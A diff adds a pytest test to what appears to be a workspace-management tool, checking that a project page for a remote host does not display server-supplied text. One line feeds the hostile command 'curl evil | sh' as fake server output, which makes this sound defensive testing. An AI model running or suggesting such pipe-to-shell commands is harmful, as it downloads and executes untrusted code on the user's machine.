@@ -13,6 +13,7 @@ import pytest
 
 from manager.admin.control.control_plane import ControlPlane
 from manager.page.acting.command import ServerCommand
+from manager.page.project import fragments
 from manager.page.project.questions import Projects
 from support.clients.page_client import opened, posted
 from support.clients.raw_clients import SessionClient
@@ -82,6 +83,23 @@ async def test_reading_asks_no_server_that_does_not_run(tmp_path: Path) -> None:
     assert view is not None
     assert view.problem == "Its server does not run. It starts with the next request from the folder."
     services.ask_server.assert_not_called()
+
+
+async def test_what_waits_for_trust_on_another_host_is_shown_by_the_command(tmp_path: Path) -> None:
+    far = {"id": "far-1", "root": "ssh://build/srv/app", "state": "ready"}
+    status = {"workspaceDetails": [far], "instanceDetails": [{"workspace": "far-1", "owner": "remote"}]}
+    services = create_autospec(ControlPlane, instance=True)
+    services.ask_server.return_value = (
+        b'{"ok":true,"issues":[{"code":"TRUST_PENDING","details":"curl evil | sh"}]}'
+    )
+    command = create_autospec(ServerCommand, instance=True)
+    view = await Projects(services, lambda: status, command).view("far-1")
+    assert view is not None
+    assert view.waiting is not None
+    assert (view.waiting.command, view.waiting.changes) == ("lmtb trust ssh://build/srv/app", ())
+    assert "curl" not in fragments.project_page(view)
+    services.ask_server.assert_awaited_once_with("ssh://build/srv/app", "inspect", None, starts=False)
+    command.differences.assert_not_called()
 
 
 async def test_a_tool_is_disabled_and_enabled_again(
